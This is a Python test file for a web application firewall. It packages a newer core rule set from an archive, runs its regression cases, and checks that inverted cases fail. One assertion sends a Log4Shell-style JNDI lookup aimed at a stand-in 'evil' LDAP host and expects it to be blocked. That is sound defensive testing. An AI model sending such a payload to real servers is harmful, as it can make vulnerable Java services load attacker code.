"""Another set of core rules than Debian's, and the runner of that set's own regression cases."""

from __future__ import annotations

import shutil
import tarfile
from pathlib import Path

from haechi.dataplane import core_rules
from tests.packets.crscases import read_cases, run_cases
from tests.packets.waflab import WafLab

CASES = Path(__file__).parents[1] / "cases" / "crs"
NEWER = (
    'SecRule ARGS "@rx ^newer-class$" "id:935100,phase:2,pass,t:none,log,msg:\'newer\',severity:CRITICAL,'
    'setvar:tx.anomaly_score_pl1=+5,setvar:tx.inbound_anomaly_score_pl1=+5,tag:paranoia-level/1"\n'
)


def test_a_newer_set_from_an_archive(tmp_path: Path) -> None:
    release = tmp_path / "coreruleset-9.9"
    shutil.copytree(core_rules.DEBIAN, release / "rules")
    (release / "rules" / "REQUEST-935-NEWER.conf").write_text(NEWER)
    with tarfile.open(tmp_path / "crs.tar.gz", "w:gz") as tar:
        tar.add(release, release.name)
    lab = WafLab(tmp_path / "lab", str(tmp_path / "crs.tar.gz"))
    try:
        core_rules.prepare(lab.site, print)
        lab.apply(lab.domain())
        assert lab.curl("/?q=newer-class").startswith("405") and lab.curl("/?q=newer").startswith("200")
        assert lab.curl("/?q=$%7Bjndi:ldap://evil/x%7D").startswith("405")  # our supplement counts with every set
    finally:
        lab.down()


def test_its_regression_cases(tmp_path: Path) -> None:
    lab = WafLab(tmp_path)
    try:
        counts, failed = run_cases(CASES, lab)
        assert not failed and counts["passed"] == len(list(read_cases(CASES))) == 7
    finally:
        lab.down()


def test_a_case_that_does_not_hold_fails(tmp_path: Path) -> None:
    text = (CASES / "scripts.yaml").read_text()
    (tmp_path / "cases").mkdir()
    turned = text.replace(" log_contains", " kept").replace("no_log_contains", "log_contains").replace(" kept", " no_log_contains")
    (tmp_path / "cases" / "turned.yaml").write_text(turned.replace("[403]", "[200]"))
    lab = WafLab(tmp_path / "lab")
    try:
        counts, failed = run_cases(tmp_path / "cases", lab)
        assert counts["failed"] == 3 and counts["passed"] == 0, failed
    finally:
        lab.down()
